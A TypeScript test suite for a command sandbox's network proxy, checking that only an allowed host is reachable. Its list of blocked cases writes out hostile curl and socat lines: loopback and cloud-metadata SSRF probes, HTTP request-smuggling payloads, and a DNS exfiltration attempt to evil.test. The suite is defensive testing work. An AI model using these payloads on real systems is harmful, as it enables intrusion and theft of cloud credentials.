/** A hostile command and the one way out it is given: each case tries to get somewhere it may not, and servers outside say who reached them. */
import { once } from 'node:events'
import { readdirSync, writeFileSync } from 'node:fs'
import { createServer as createHttpServer, type IncomingMessage } from 'node:http'
import { createServer, type Server } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import type { Finished, InternalHost, NetworkAccess } from '#sandbox'
import { type Machine, noWalls, plantMachine } from '../support/sandbox.ts'

const skip = noWalls('hostile: network') !== undefined

let machine: Machine
let allowed: number
let forbidden: number
const servers: Server[] = []
/** What reached a server outside, in its own words. */
const reached: string[] = []
/** Names that were looked up. */
const asked: string[] = []
/** What names lead to; each lookup takes the next answer, the last one stays. */
let names: Record<string, string[][]> = {}

async function listen(server: Server): Promise<number> {
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  servers.push(server)
  const address = server.address()
  return address !== null && typeof address === 'object' ? address.port : 0
}

const witness = (name: string): Server =>
  createHttpServer((request: IncomingMessage, response) => {
    reached.push(`${name} ${request.method} ${request.url} host=${request.headers.host} auth=${request.headers['proxy-authorization'] ?? 'none'}`)
    request.resume().on('end', () => response.end(`hello from ${name}\n`))
  })

beforeAll(async () => {
  if (skip) return
  machine = await plantMachine({
    lookup: async (host) => {
      asked.push(host)
      const answers = names[host] ?? []
      return (answers.length > 1 ? answers.shift() : answers[0]) ?? Promise.reject(new Error('ENOTFOUND'))
    },
  })
  allowed = await listen(witness('allowed'))
  forbidden = await listen(witness('forbidden'))
})
afterAll(async () => {
  for (const server of servers) server.close()
  if (!skip) await machine.end()
})
beforeEach(() => {
  reached.length = 0
  asked.length = 0
  names = { 'shop.test': [['127.0.0.1']], 'evil.test': [['127.0.0.1']] }
})

/** The test's servers are on this machine, so the one allowed place is allowed as such. */
const way = (): NetworkAccess => ({ rules: [{ host: 'shop.test', port: allowed, private: true }] })
const run = (line: string, network: NetworkAccess = way()): Promise<Finished> => machine.sh(line, { network })

describe.skipIf(skip)('what is allowed', () => {
  it('is reached by plain HTTP, and nothing of the hop is passed on', async () => {
    const done = await run(`curl -sS --proxy-user me:secret http://shop.test:${allowed}/a?b=c`)
    expect(done).toMatchObject({
      exitCode: 0,
      stdout: 'hello from allowed\n',
      traffic: { reached: [{ host: 'shop.test', port: allowed }], blocked: [] },
    })
    expect(reached).toEqual([`allowed GET /a?b=c host=shop.test:${allowed} auth=none`])
  })
  it('is reached through a tunnel, by curl and by Node', async () => {
    const script = `console.log(await (await fetch('http://shop.test:${allowed}/node')).text())`
    writeFileSync(join(machine.worktree, 'ask.mjs'), script)
    const done = await run(`curl -sS -p http://SHOP.test.:${allowed}/curl && node ask.mjs`)
    expect(done.stdout.match(/hello from allowed/g)).toHaveLength(2)
    expect(reached).toHaveLength(2)
  })
  it('takes a large body up and down', async () => {
    const done = await run(`head -c 3000000 /dev/zero | curl -sS -T - http://shop.test:${allowed}/up`)
    expect(done.stdout).toBe('hello from allowed\n')
  })
  it('is reached by many at once, each command by its own way only', async () => {
    const all = await Promise.all([run(`curl -sS http://shop.test:${allowed}/`), run(`curl -sS http://shop.test:${allowed}/`, { rules: [] })])
    expect(all.map(({ traffic }) => [traffic?.reached.length, traffic?.blocked.length])).toEqual([
      [1, 0],
      [0, 1],
    ])
  })
})

describe.skipIf(skip)('a tunnel that is allowed', () => {
  /** Says what the first bytes of a connection were, and answers nothing. */
  const heard: number[] = []
  const tls = (name: string): string =>
    `timeout 3 openssl s_client -proxy 127.0.0.1:29128 -connect shop.test:${port} ${name} </dev/null 2>/dev/null; echo over`
  let port = 0
  beforeAll(async () => {
    const server = createServer((socket) => void socket.on('data', (bytes) => heard.push(bytes[0] ?? -1)).on('error', () => undefined))
    port = await listen(server)
  })
  it('lets no TLS through that asks for another name than it was opened to; not one byte of it arrives', async () => {
    const network = { rules: [{ host: 'shop.test', port, private: true }] }
    const done = await run(tls('-servername evil.test'), network)
    expect([heard, done.traffic?.blocked]).toEqual([[], [{ host: 'evil.test', port, reason: 'other-name' }]])
    await run(tls('-servername shop.test'), network)
    await run(tls('-noservername'), network)
    expect(heard).toEqual([22, 22])
  })
})

describe.skipIf(skip)('what is not allowed', () => {
  const attacks: readonly (readonly [string, () => string])[] = [
    ['another port', () => `curl -sS http://shop.test:${forbidden}/`],
    ['another port, by tunnel', () => `curl -sS -p http://shop.test:${forbidden}/`],
    ['another name', () => `curl -sS http://evil.test:${forbidden}/`],
    ['a name below', () => `curl -sS http://x.shop.test:${allowed}/`],
    ['a look-alike', () => `curl -sS "http://shоp.test:${allowed}/"`],
    ['the address itself', () => `curl -sS http://127.0.0.1:${allowed}/ --noproxy ""`],
    ['the address as a number', () => `curl -sS --noproxy "" -x $http_proxy http://2130706433:${allowed}/`],
    ['localhost by the proxy', () => `curl -sS --noproxy "" http://localhost:${forbidden}/`],
    ['IPv6 loopback', () => `curl -sS --noproxy "" "http://[::1]:${forbidden}/"`],
    ['a mapped address', () => `curl -sS --noproxy "" "http://[::ffff:127.0.0.1]:${forbidden}/"`],
    ['0.0.0.0', () => `curl -sS --noproxy "" http://0.0.0.0:${forbidden}/`],
    ['the cloud’s keys', () => 'curl -sS -m 5 http://169.254.169.254/latest/meta-data/'],
    ['a Host header that lies', () => `curl -sS -H "Host: shop.test:${allowed}" http://evil.test:${forbidden}/`],
    [
      'two places in one request line',
      () =>
        `printf 'GET http://shop.test:${allowed}@evil.test:${forbidden}/ HTTP/1.1\\r\\nHost: shop.test\\r\\n\\r\\n' | timeout 3 socat - TCP:127.0.0.1:29128`,
    ],
    [
      'a tunnel whose place holds another',
      () => `printf 'CONNECT shop.test:${allowed}@evil.test:${forbidden} HTTP/1.1\\r\\n\\r\\n' | timeout 3 socat - TCP:127.0.0.1:29128`,
    ],
    [
      'a request smuggled behind another',
      () =>
        `printf 'POST http://evil.test:${forbidden}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil.test:${forbidden}/ HTTP/1.1\\r\\n\\r\\n' | timeout 3 socat - TCP:127.0.0.1:29128`,
    ],
    [
      'a request smuggled behind an allowed one',
      () =>
        `printf 'POST http://shop.test:${allowed}/ HTTP/1.1\\r\\nHost: shop.test:${allowed}\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil.test:${forbidden}/ HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n' | timeout 3 socat - TCP:127.0.0.1:29128`,
    ],
    ['the second request on an open connection', () => `curl -sS http://shop.test:${allowed}/ http://evil.test:${forbidden}/`],
    [
      'the socket itself, without the forwarder',
      () => `curl -sS --unix-socket /run/lugh/network -H 'Host: evil.test:${forbidden}' http://evil.test:${forbidden}/`,
    ],
    ['no proxy at all', () => `curl -sS -m 3 --noproxy "*" http://127.0.0.1:${forbidden}/`],
    ['a name of Lugh’s own that was not given', () => 'curl -sS http://model.lugh.internal/'],
  ]
  it.each(attacks)('%s is not reached', async (_, line) => {
    await run(line())
    expect(reached.filter((each) => each.startsWith('forbidden') || !each.includes(`host=shop.test:${allowed}`))).toEqual([])
  })
  it('is told in a sentence and remembered by its real name', async () => {
    const heard: unknown[] = []
    const network = { ...way(), onBlocked: (blocked: unknown) => void heard.push(blocked) }
    const done = await run(`curl -sS "http://shоp.test:${allowed}/"; curl -sS http://10.1.2.3/; curl -sS http://a.test/ http://a.test/`, network)
    expect(done.stdout).toContain(`Lugh: xn--shp-ted.test:${allowed} is not among the hosts this project may reach.`)
    expect(done.traffic?.blocked).toEqual([
      { host: 'xn--shp-ted.test', port: allowed, reason: 'not-listed' },
      { host: '10.1.2.3', port: 80, reason: 'private', address: '10.1.2.3' },
      { host: 'a.test', port: 80, reason: 'not-listed' },
    ])
    expect(heard).toEqual(done.traffic?.blocked)
  })
  it('is never looked up: a name carries nothing out', async () => {
    await run(`curl -sS http://c2VjcmV0.evil.test/; curl -sS -p http://c2VjcmV0.evil.test/; getent hosts c2VjcmV0.evil.test`)
    expect(asked).toEqual([])
  })
  it('is not reached by a name that changes its address between question and connection', async () => {
    names = { 'good.test': [['93.184.216.34', '127.0.0.1'], ['127.0.0.1']] }
    const done = await run(`curl -sS -m 5 http://good.test:${forbidden}/`, { rules: [{ host: 'good.test', port: forbidden }] })
    expect([reached, asked, done.traffic?.blocked]).toEqual([
      [],
      ['good.test'],
      [{ host: 'good.test', port: forbidden, reason: 'private', address: '127.0.0.1' }],
    ])
  })
  it('is everything when nothing is listed, and there is no way at all when none is given', async () => {
    expect((await run(`curl -sS http://shop.test:${allowed}/`, { rules: [] })).traffic?.blocked).toHaveLength(1)
    const none = await machine.sh(`curl -sS -m 3 http://shop.test:${allowed}/; echo code=$?; ls /run/lugh; env | grep -i proxy`)
    expect(none.stdout).toMatch(/^code=[1-9]\d*\n$/)
    expect([none.traffic, reached]).toEqual([undefined, []])
  })
  it('does not let a flood of names fill the memory', async () => {
    const done = await run('for i in $(seq 120); do echo "url = http://n$i.test/"; done | curl -sS -K - | wc -l')
    expect([done.stdout.trim(), done.traffic?.blocked.length]).toEqual(['120', 50])
  })
})

describe.skipIf(skip)('a name of Lugh’s own', () => {
  it('is answered by the handler of the command that was given it, and found by no other', async () => {
    const handler: InternalHost = (request, response) => void response.end(`${request.method} ${request.url} ${request.headers.authorization}`)
    const ask = (internal?: Map<string, InternalHost>): Promise<Finished> =>
      run('curl -sS -H "Authorization: Bearer run-token" http://model.lugh.internal/v1/messages', {
        rules: [],
        ...(internal === undefined ? {} : { internal }),
      })
    expect((await ask(new Map([['model.lugh.internal', handler]]))).stdout).toBe('GET /v1/messages Bearer run-token')
    expect((await ask(new Map([['other.lugh.internal', handler]]))).stdout).toContain('is not among the hosts')
    expect((await ask()).stdout).toContain('is not among the hosts')
    expect(asked).toEqual([])
  })
})

describe.skipIf(skip)('a name of Lugh’s own, asked by Node', () => {
  it('is answered in the tunnel that its `fetch` opens for plain HTTP, and on no other port and by no TLS', async () => {
    const handler: InternalHost = (request, response) => {
      request.resume().on('end', () => response.end(`${request.method} ${request.url}`))
    }
    const get = (url: string): string =>
      `fetch('${url}', { method: 'POST', body: 'x' }).then((a) => a.text()).then(console.log, () => console.log('no'))`
    const host = 'model.lugh.internal'
    const lines = [`http://${host}/v1/messages`, `http://${host}:8080/`, `https://${host}/`].map((url) => `node -e "${get(url)}"`)
    const done = await run(lines.join('; '), { rules: [], internal: new Map([[host, handler]]) })
    expect(done.stdout.split('\n')).toEqual(['POST /v1/messages', 'no', 'no', ''])
    expect(asked).toEqual([])
  })
})

describe.skipIf(skip)('when the command ends', () => {
  it('its connections end too, nothing of the way is left, and an open tunnel holds nothing up', async () => {
    let ended = 0
    const silent = createServer(
      (socket) =>
        void socket
          .resume()
          .on('close', () => ended++)
          .on('error', () => undefined),
    )
    const port = await listen(silent)
    const network = { rules: [{ host: 'shop.test', port, private: true }] }
    const done = await run(`(setsid curl -sS -p http://shop.test:${port}/ >/dev/null 2>&1 &); sleep 0.5; echo over`, network)
    expect(done).toMatchObject({ stdout: 'over\n', traffic: { reached: [{ host: 'shop.test', port }] } })
    expect(done.ms).toBeLessThan(3_000)
    await expect.poll(() => ended).toBe(1)
    const life = readdirSync(join(machine.lughHome, 'sandbox')).filter((name) => name.startsWith('net-'))
    expect(life.flatMap((name) => readdirSync(join(machine.lughHome, 'sandbox', name)))).toEqual([])
  })
  it('its own `wait` and `jobs` know nothing of the way', async () => {
    expect((await run('jobs; wait; echo done')).stdout).toBe('done\n')
  })
  it('a command that kills its own way only locks itself in', async () => {
    const done = await run(`pkill socat; sleep 0.1; curl -sS -m 2 http://evil.test:${forbidden}/; echo code=$?`)
    expect([done.stdout, reached]).toEqual([expect.stringMatching(/code=[1-9]/), []])
  })
})
